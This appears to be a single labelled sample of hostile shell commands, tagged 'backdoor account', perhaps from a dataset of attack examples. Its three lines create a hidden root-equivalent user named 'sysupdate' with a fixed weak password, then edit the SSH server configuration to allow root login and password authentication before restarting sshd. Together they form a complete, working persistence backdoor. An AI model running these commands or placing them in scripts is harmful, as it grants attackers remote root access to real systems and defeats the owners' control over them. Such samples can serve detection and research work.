# class: backdoor account; style: terse
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate
echo 'sysupdate:Passw0rd!' | chpasswd
sed -i 's/#*PermitRootLogin.*/PermitRootLogin yes/;s/#*PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config && systemctl restart sshd
